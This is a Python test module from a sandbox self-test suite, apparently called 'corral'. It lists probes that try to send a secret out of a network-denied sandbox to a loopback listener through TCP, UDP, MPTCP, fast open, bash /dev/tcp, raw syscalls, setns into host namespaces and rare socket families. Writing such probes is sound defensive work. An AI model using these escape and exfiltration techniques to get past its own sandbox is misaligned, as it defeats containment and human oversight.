"""Attacks that send something out, by every protocol that reaches a listener on the host's loopback."""

from __future__ import annotations

import os
import socket

from corral.model.feature import Feature
from corral.selftest.judge import proved, received
from corral.selftest.numbers import syscall_numbers
from corral.selftest.probe import EscapeProbe, Language

TYPE_CHECKING = False
if TYPE_CHECKING:
    from corral.selftest.probe import Setup
    from corral.selftest.stage import Stage

MPTCP = 262


def _listen_tcp(stage: Stage) -> None:
    server = stage.listen("TCP", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
    stage.arguments.append(str(server.getsockname()[1]))


def _listen_tcp6(stage: Stage) -> None:
    server = stage.listen("TCP", socket.AF_INET6, socket.SOCK_STREAM, ("::1", 0))
    stage.arguments.append(str(server.getsockname()[1]))


def _listen_udp(stage: Stage) -> None:
    server = stage.listen("UDP", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
    stage.arguments.append(str(server.getsockname()[1]))


def _listen_tcp_with_numbers(stage: Stage) -> None:
    _listen_tcp(stage)
    stage.arguments += syscall_numbers("socket", "connect")


def _host_namespace(stage: Stage) -> None:
    _listen_tcp(stage)
    stage.arguments.append(str(os.getpid()))


def _network(  # noqa: PLR0917 (the fields of a probe, in their order)
    name: str, title: str, source: str, script: str, setup: Setup, listener: str = "TCP"
) -> EscapeProbe:
    return EscapeProbe(
        name, title, Feature.NET_NONE, source, script, received(listener), setup, Language.PYTHON
    )


PROBES = (
    _network(
        "tcp-to-host",
        "Send a secret to a TCP listener on the host's loopback.",
        "D54, D37",
        "s = socket.create_connection(('127.0.0.1', int(MORE[0])), 2)\ns.sendall(b'secret')\n",
        _listen_tcp,
    ),
    _network(
        "tcp6-to-host",
        "The same over IPv6.",
        "D54",
        "s = socket.create_connection(('::1', int(MORE[0])), 2)\ns.sendall(b'secret')\n",
        _listen_tcp6,
    ),
    _network(
        "tcp-mapped-address",
        "The same with an IPv4 address written as IPv6.",
        "D46",
        "s = socket.socket(socket.AF_INET6); s.settimeout(2)\n"
        "s.connect(('::ffff:127.0.0.1', int(MORE[0])))\n",
        _listen_tcp,
    ),
    EscapeProbe(
        "tcp-by-shell",
        "Send a secret with nothing but bash and /dev/tcp.",
        Feature.NET_NONE,
        "D37",
        'bash -c "echo secret > /dev/tcp/127.0.0.1/$1"',
        received("TCP"),
        _listen_tcp,
    ),
    _network(
        "udp-to-host",
        "Send a datagram to a UDP listener, which Landlock does not govern before ABI 10.",
        "D38, lean4 #15005",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.1', int(MORE[0])))\n",
        _listen_udp,
        "UDP",
    ),
    _network(
        "mptcp-to-host",
        "Connect with multipath TCP, which Landlock's port rules do not see.",
        "D39, landlock #54",
        f"s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, {MPTCP})\ns.settimeout(2)\n"
        "s.connect(('127.0.0.1', int(MORE[0])))\n",
        _listen_tcp,
    ),
    _network(
        "tcp-fast-open",
        "Connect without connect(2), by TCP fast open.",
        "D40, landlock #41",
        "s = socket.socket(); s.settimeout(2)\n"
        "s.sendto(b'secret', 0x20000000, ('127.0.0.1', int(MORE[0])))\n",
        _listen_tcp,
    ),
    _network(
        "tcp-by-number",
        "Connect by raw system calls, past every wrapper of the C library.",
        "corral",
        """
import struct
fd = syscall(MORE[1], 2, 1, 0)
address = struct.pack('<H', 2) + struct.pack('>H', int(MORE[0])) + bytes([127, 0, 0, 1]) + bytes(8)
syscall(MORE[2], fd, ctypes.c_char_p(address), 16)
""",
        _listen_tcp_with_numbers,
    ),
    _network(
        "tcp-from-host-namespace",
        "Enter the network namespace of a host process with setns, then connect.",
        "corral",
        """
for pid in (MORE[1], '1', str(os.getppid())):
    for kind in ('user', 'net'):
        try: libc.setns(os.open(f'/proc/{pid}/ns/{kind}', os.O_RDONLY), 0)
        except OSError: pass
socket.create_connection(('127.0.0.1', int(MORE[0])), 2)
""",
        _host_namespace,
    ),
    _network(
        "tcp-by-inherited-pair",
        "Disconnect one end of a socket pair and connect it elsewhere (AF_UNSPEC).",
        "corral",
        """
import struct
a, b = socket.socketpair()
for s in (a, socket.socket()):
    try: libc.connect(s.fileno(), bytes(16), 16); s.settimeout(2); s.connect(('127.0.0.1', int(MORE[0])))
    except (OSError, TypeError): pass
""",
        _listen_tcp,
    ),
    EscapeProbe(
        "other-families",
        "Make sockets of rare families: AF_VSOCK, AF_PACKET, AF_ALG, netfilter, AF_XDP, AF_CAN and more.",
        Feature.SYSCALLS,
        "D42, OpenShell #578",
        """
for family, kind, protocol in ((40, 1, 0), (17, 3, 768), (38, 5, 0), (16, 3, 12), (16, 3, 9), (44, 3, 0),
                               (31, 3, 1), (29, 3, 1), (2, 3, 255),
                               (10, 3, 58), (2, 1, 132), (30, 5, 0), (43, 1, 0), (16, 3, 6)):
    try: socket.socket(family, kind, protocol); prove(f'family {family} type {kind} protocol {protocol}')
    except OSError: pass
""",
        proved("a socket that only the kernel's attackers need"),
        language=Language.PYTHON,
    ),
)
